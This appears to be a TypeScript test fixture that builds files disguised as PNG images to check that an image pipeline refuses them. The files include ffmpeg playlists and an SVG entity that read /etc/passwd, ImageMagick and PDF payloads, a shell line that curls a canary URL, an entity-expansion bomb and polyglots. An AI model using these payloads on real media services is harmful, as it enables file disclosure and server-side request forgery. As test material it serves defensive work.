import { pngChunk, pngSignature, uint32 } from '@kinora/stack/harness/png-chunks';
import { encodeJpeg, halfColour, jpegSegment } from './encode-jpeg.ts';
import { encodePng } from './encode-png.ts';
import { littleEndian, webpChunk, webpFile } from './encode-webp.ts';
import { either, eitherJpeg, type HostileFile, refused, refusedJpeg, refusedWebp } from './hostile-file.ts';

const size = { width: 480, height: 360 };

/** Returns files that are only named like images, or are something else too. No process may request `canaryUrl`. */
export function hostileDisguises(canaryUrl: string): HostileFile[] {
  return [...documents(canaryUrl), ...otherFormats(), ...polyglots(canaryUrl)];
}

function documents(canaryUrl: string): HostileFile[] {
  const texts: Record<string, string> = {
    'HLS playlist': `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n${canaryUrl}/hls.ts\n#EXT-X-ENDLIST\n`,
    'HLS playlist that reads files': `#EXTM3U\n#EXTINF:1.0,\nconcat:${canaryUrl}/head.m3u8|subfile,,start,0,end,64,,:/etc/passwd\n#EXT-X-ENDLIST\n`,
    'HLS master playlist': `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${canaryUrl}/variant.m3u8\n`,
    'DASH manifest': `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>${canaryUrl}/</BaseURL><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><SegmentList><SegmentURL media="dash.m4s"/></SegmentList></Representation></AdaptationSet></Period></MPD>`,
    'concat script': `ffconcat version 1.0\nfile '${canaryUrl}/a.png'\nfile '/etc/passwd'\n`,
    'session description': `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
    SVG: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="480" height="360"><image width="480" height="360" xlink:href="${canaryUrl}/svg.png"/></svg>`,
    'SVG that reads files': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="480" height="360"><text y="20">&x;</text></svg>`,
    'SVG that grows': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg" width="480" height="360"><text>&c;</text></svg>`,
    'vector commands': `push graphic-context\nviewbox 0 0 480 360\nfill 'url(${canaryUrl}/x.png)'\npop graphic-context\n`,
    'script of commands': `<?xml version="1.0"?><image><read filename="${canaryUrl}/x.png"/><write filename="/tmp/x.png"/></image>`,
    PostScript: `%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 480 360\n(/etc/passwd) (r) file\nshowpage\n`,
    PDF: `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(${canaryUrl}/pdf)>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
    'HTML page': `<!doctype html><img src="${canaryUrl}/page.png"><script>fetch('${canaryUrl}/js')</script>`,
    'table of numbers': '1,2,3\n4,5,6\n'.repeat(2000),
    'matrix of text': `480 360 1 0\n${'0 '.repeat(2000)}`,
    'portable pixmap': `P3\n480 360\n255\n${'0 0 0 '.repeat(500)}`,
    'shell script': `#!/bin/sh\ncurl ${canaryUrl}/sh\n`,
    JSON: `{"image_url":"${canaryUrl}/json.png"}`,
  };
  return Object.entries(texts).flatMap(([name, text]) => [
    refused(`${name}, named .png`, Buffer.from(text)),
    // A reader that skips to a format that it knows would find the text.
    refused(`${name} after the signature of a PNG`, Buffer.concat([pngSignature, Buffer.from(text)])),
  ]);
}

function otherFormats(): HostileFile[] {
  const box = (type: string, data: Buffer) =>
    Buffer.concat([uint32(data.length + 8), Buffer.from(type, 'latin1'), data]);
  const brand = (name: string) =>
    Buffer.concat([
      box('ftyp', Buffer.from(`${name}\0\0\0\0mif1${name}`, 'latin1')),
      box('meta', Buffer.alloc(64)),
      box('mdat', Buffer.alloc(500)),
    ]);
  const heads: Record<string, Buffer> = {
    GIF: Buffer.from(
      'GIF89a\xe0\x01\x68\x01\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\0\0\0\0\0,\0\0\0\0\xe0\x01\x68\x01\0\x02\x02D\x01\0;',
      'latin1',
    ),
    BMP: Buffer.concat([
      Buffer.from('BM', 'latin1'),
      littleEndian(1000, 4),
      Buffer.alloc(4),
      littleEndian(54, 4),
      littleEndian(40, 4),
      littleEndian(480, 4),
      littleEndian(360, 4),
      Buffer.from([1, 0, 24, 0]),
      Buffer.alloc(500),
    ]),
    TIFF: Buffer.concat([
      Buffer.from('II*\0', 'latin1'),
      littleEndian(8, 4),
      Buffer.from([1, 0, 0, 1, 3, 0, 1, 0, 0, 0, 0xe0, 1, 0, 0]),
      Buffer.alloc(200),
    ]),
    'TIFF whose directories form a ring': Buffer.concat([
      Buffer.from('II*\0', 'latin1'),
      littleEndian(8, 4),
      Buffer.from([0, 0]),
      littleEndian(8, 4),
    ]),
    HEIC: brand('heic'),
    AVIF: brand('avif'),
    MP4: brand('isom'),
    'JPEG XL': Buffer.concat([Buffer.from([0xff, 0x0a]), Buffer.alloc(300, 7)]),
    'JPEG 2000': Buffer.concat([
      Buffer.from([0, 0, 0, 12]),
      Buffer.from('jP  \r\n\x87\n', 'latin1'),
      Buffer.alloc(300),
    ]),
    Photoshop: Buffer.concat([
      Buffer.from('8BPS\0\x01\0\0\0\0\0\0\0\x03', 'latin1'),
      uint32(360),
      uint32(480),
      Buffer.from([0, 8, 0, 3]),
      Buffer.alloc(400),
    ]),
    icon: Buffer.concat([
      Buffer.from([0, 0, 1, 0, 1, 0, 0, 0, 0, 0, 1, 0, 32, 0]),
      littleEndian(200, 4),
      littleEndian(22, 4),
      Buffer.alloc(200),
    ]),
    'Matlab matrix': Buffer.concat([
      Buffer.from('MATLAB 5.0 MAT-file'.padEnd(124)),
      Buffer.from([0, 1, 0x49, 0x4d]),
      Buffer.alloc(300),
    ]),
    FITS: Buffer.from('SIMPLE  =                    T'.padEnd(2880), 'latin1'),
    OpenEXR: Buffer.concat([Buffer.from([0x76, 0x2f, 0x31, 0x01, 2, 0, 0, 0]), Buffer.alloc(300)]),
    Radiance: Buffer.from('#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 360 +X 480\n', 'latin1'),
    'sound in RIFF': Buffer.concat([
      Buffer.from('RIFF', 'latin1'),
      littleEndian(100, 4),
      Buffer.from('WAVEfmt ', 'latin1'),
      Buffer.alloc(92),
    ]),
    'film in RIFF': Buffer.concat([
      Buffer.from('RIFF', 'latin1'),
      littleEndian(100, 4),
      Buffer.from('AVI LIST', 'latin1'),
      Buffer.alloc(92),
    ]),
    gzip: Buffer.from('1f8b0800000000000003abe6e50200a6c1c4d603000000', 'hex'),
    'ELF program': Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(300)]),
    nothing: Buffer.alloc(0),
    'one byte': Buffer.from([0x89]),
    'only zeros': Buffer.alloc(100_000),
    'only the signature of a PNG': pngSignature,
    'only the start of a JPEG': Buffer.from([0xff, 0xd8, 0xff]),
    'only the head of a WebP': Buffer.from('RIFF\x04\0\0\0WEBP', 'latin1'),
    'the start of a JPEG and seven megabytes of zeros': Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff]),
      Buffer.alloc(7_000_000),
    ]),
    'the start of a JPEG and fill bytes without end': Buffer.concat([
      Buffer.from([0xff, 0xd8]),
      Buffer.alloc(7_000_000, 0xff),
    ]),
  };
  return Object.entries(heads).map(([name, bytes]) => refused(`${name}, named .png`, bytes));
}

function polyglots(canaryUrl: string): HostileFile[] {
  const png = encodePng({ ...size, colourType: 2, bitDepth: 8 });
  const jpeg = encodeJpeg({ ...size, components: halfColour });
  const zip = Buffer.from('PK\x05\x06'.padEnd(22, '\0'), 'latin1');
  const page = Buffer.from(`<script src="${canaryUrl}/polyglot.js"></script>`);
  const playlist = Buffer.from(`\n#EXTM3U\n#EXTINF:1,\n${canaryUrl}/polyglot.ts\n`);
  return [
    either('PNG that is an archive as well', Buffer.concat([png, zip])),
    either(
      'PNG that is a page as well',
      encodePng({
        ...size,
        colourType: 2,
        bitDepth: 8,
        before: [pngChunk('tEXt', Buffer.concat([Buffer.from('a\0'), page]))],
      }),
    ),
    eitherJpeg(
      'JPEG that is a page as well',
      encodeJpeg({ ...size, components: halfColour, segments: [jpegSegment(0xfe, page)] }),
    ),
    eitherJpeg(
      'JPEG that is a playlist as well',
      encodeJpeg({ ...size, components: halfColour, segments: [jpegSegment(0xfe, playlist)] }),
    ),
    eitherJpeg('JPEG that is an archive as well', Buffer.concat([jpeg, zip])),
    either('PNG with a JPEG after it', Buffer.concat([png, jpeg])),
    refused('signature of a PNG with a JPEG after it', Buffer.concat([pngSignature, jpeg])),
    refusedJpeg('start of a JPEG with a PNG after it', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), png])),
    refusedWebp('WebP that holds a PNG', webpFile([webpChunk('VP8 ', png)])),
    refusedWebp('WebP that holds a JPEG', webpFile([webpChunk('VP8L', jpeg)])),
    refusedWebp('WebP that holds a playlist', webpFile([webpChunk('VP8X', playlist)])),
    refusedJpeg('PDF that holds a JPEG', Buffer.concat([Buffer.from('%PDF-1.4\n'), jpeg])),
  ];
}
